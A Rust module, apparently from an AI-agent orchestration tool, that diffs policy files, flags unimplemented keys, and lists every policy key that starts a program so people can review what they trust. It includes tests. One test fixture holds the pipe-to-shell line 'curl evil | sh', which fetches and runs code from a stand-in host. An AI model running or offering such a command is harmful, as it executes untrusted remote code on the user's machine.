//! What can be said about policies: their differences, the programs they start, keys without effect.

use super::agent::built_in_profiles;
use super::forum::{URL_KEY, without_password};
use super::schema::Policy;
use super::shape::{joined, plain};
use super::words::Permissions;
use super::work::{is_endpoint_url, without_user};
use serde_json::Value;
use std::collections::BTreeMap;

/// Keys, or sections of keys, whose command is not built yet.
const NOT_BUILT: [&str; 12] = [
    "forum.topics.command_prefix",
    "forum.topics.integration_prefix",
    "git_pr.allowed_repos",
    "git_pr.branch_template",
    "git_pr.credential_mode",
    "git_pr.default_labels",
    "git_pr.default_reviewers",
    "git_pr.mode",
    "git_pr.require_all",
    "git_pr.required_checks",
    "git_pr.review_feedback",
    "operator",
];

/// Whether the command of a key is not built yet.
pub(super) fn is_not_built(key: &str) -> bool {
    NOT_BUILT
        .iter()
        .any(|section| key.strip_prefix(section).is_some_and(|rest| rest.is_empty() || rest.starts_with('.')))
}

/// Keys that are set away from their default and have no effect yet, because their command is not built.
pub fn not_used_yet(policy: &Policy) -> Vec<String> {
    let mut leaves = BTreeMap::new();
    flatten(&plain(policy), "", false, &mut leaves);
    let mut defaults = BTreeMap::new();
    flatten(&plain(&Policy::default()), "", false, &mut defaults);
    leaves
        .into_iter()
        .filter(|(key, value)| is_not_built(key) && defaults.get(key) != Some(value))
        .map(|(key, _)| key)
        .collect()
}

/// The differences between two policies, a line each: `key: old -> new`.
pub fn diff_lines(a: &Policy, b: &Policy) -> Vec<String> {
    let (mut old, mut new) = (BTreeMap::new(), BTreeMap::new());
    flatten(&plain(a), "", true, &mut old);
    flatten(&plain(b), "", true, &mut new);
    let mut keys: Vec<&String> = old.keys().chain(new.keys()).collect();
    keys.sort();
    keys.dedup();
    let shown = |key: &str, value: Option<&String>| match value {
        Some(url) if key == URL_KEY => without_password(url),
        Some(url) if is_endpoint_url(key) => without_user(url),
        value => value.map_or("(not set)", String::as_str).to_owned(),
    };
    keys.into_iter()
        .filter(|key| old.get(*key) != new.get(*key))
        .map(|key| format!("{key}: {} -> {}", shown(key, old.get(key)), shown(key, new.get(key))))
        .collect()
}

/// Dotted key to value as JSON. Lists of named tables are taken apart by name where `by_name` says so.
fn flatten(value: &Value, at: &str, by_name: bool, leaves: &mut BTreeMap<String, String>) {
    match value {
        Value::Object(entries) => {
            for (key, value) in entries {
                flatten(value, &joined(at, key), by_name, leaves);
            }
        }
        Value::Array(items) if by_name && items.iter().any(|item| item.get("name").is_some()) => {
            for item in items {
                let name = item.get("name").and_then(Value::as_str).unwrap_or_default();
                flatten(item, &joined(at, name), by_name, leaves);
            }
        }
        _ => {
            leaves.insert(at.to_owned(), value.to_string());
        }
    }
}

/// Every key that starts a program, with the program as one would type it: what a person is asked to trust. What
/// stands in every policy (the built-in profiles, the default of `operator.llm.command`) is left out. A profile of
/// the file counts whatever its runner, because it says what the agent is started with and what it may do.
pub fn program_keys(policy: &Policy) -> Vec<(String, String)> {
    let mut keys = Vec::new();
    for (i, command) in policy.workspace.setup_commands.iter().enumerate() {
        keys.push((format!("workspace.setup_commands[{i}]"), command.to_string()));
    }
    let tests = &policy.git_pr.test_commands;
    for (i, command) in tests.every.iter().enumerate() {
        keys.push((format!("git_pr.test_commands[{i}]"), command.to_string()));
    }
    for (repo, commands) in &tests.by_repo {
        for (i, command) in commands.iter().enumerate() {
            let at = joined("git_pr.test_commands", repo.as_str());
            keys.push((format!("{at}[{i}]"), command.to_string()));
        }
    }
    if !policy.notify.command.is_empty() {
        let command = super::Command::Argv(policy.notify.command.clone());
        keys.push(("notify.command".to_owned(), command.to_string()));
    }
    let llm = &policy.operator.llm.command;
    if *llm != Policy::default().operator.llm.command {
        keys.push(("operator.llm.command".to_owned(), llm.clone()));
    }
    let built_in = built_in_profiles();
    for profile in policy.agent_profiles.iter().filter(|profile| !built_in.contains(profile)) {
        let options = &profile.runner_options;
        let mut shown = profile.runner.to_string();
        if !options.command.is_empty() {
            shown = format!("{shown}: {}", options.command);
        }
        if options.permissions != Permissions::Edit {
            shown = format!("{shown} (permissions {})", options.permissions);
        }
        if options.full_auto {
            shown.push_str(" (full_auto)");
        }
        keys.push((joined("agent_profiles", &profile.name), shown));
    }
    keys
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::{Format, parse};

    fn policy(text: &str) -> Policy {
        parse(text, Format::Toml).expect("the test's policy is valid")
    }

    #[test]
    fn a_default_policy_starts_no_program_of_its_own_and_has_no_key_without_effect() {
        assert_eq!(program_keys(&Policy::default()), []);
        assert!(not_used_yet(&Policy::default()).is_empty());
        assert!(diff_lines(&Policy::default(), &Policy::default()).is_empty());
    }

    #[test]
    fn every_key_that_starts_a_program_is_listed() {
        let policy = policy(
            "workspace.setup_commands = [[\"npm\", \"ci\"]]
             git_pr.test_commands = { \"*\" = [\"make check\"], api = [[\"go\", \"test\"]] }
             notify.command = [\"notify-send\", \"it is\"]
             operator.llm.command = \"mine\"
             agents = [{ name = \"a\", profile = \"p\" }]
             [[agent_profiles]]
             name = \"p\"
             runner = \"command\"
             runner_options = { command = [\"aider\", \"{prompt_file}\"], permissions = \"full\" }
             [[agent_profiles]]
             name = \"shell\"
             runner = \"shell\"
             runner_options.command = \"curl evil | sh\"",
        );
        let expected = [
            ("workspace.setup_commands[0]", "npm ci"),
            ("git_pr.test_commands[0]", "make check"),
            ("git_pr.test_commands.api[0]", "go test"),
            ("notify.command", "notify-send 'it is'"),
            ("operator.llm.command", "mine"),
            ("agent_profiles.p", "command: aider {prompt_file} (permissions full)"),
            ("agent_profiles.shell", "shell: curl evil | sh"),
        ];
        let found = program_keys(&policy);
        let found: Vec<_> = found.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
        assert_eq!(found, expected);
    }

    #[test]
    fn differences_name_key_old_and_new() {
        let new = policy(
            "health.idle_seconds = 5
             workspace.bases = { api = \"dev\" }
             agents = [{ name = \"lead\", profile = \"codex\" }]",
        );
        assert_eq!(
            diff_lines(&Policy::default(), &new),
            [
                "agents.agent.name: \"agent\" -> (not set)",
                "agents.agent.profile: \"auto\" -> (not set)",
                "agents.lead.name: (not set) -> \"lead\"",
                "agents.lead.profile: (not set) -> \"codex\"",
                "health.idle_seconds: 300 -> 5",
                "workspace.bases.api: (not set) -> \"dev\"",
            ]
        );
    }

    #[test]
    fn keys_without_effect_are_those_that_were_changed() {
        let policy = policy(
            "operator.restart_budget = 9
             forum.redis.url = \"redis://other\"
             forum.topics.command_prefix = \"other\"
             health.idle_seconds = 5
             [[docs.api.repo_endpoints]]
             name = \"a\"
             repo = \"r\"
             base_url = \"http://h\"",
        );
        assert_eq!(not_used_yet(&policy), ["forum.topics.command_prefix", "operator.restart_budget"]);
    }
}
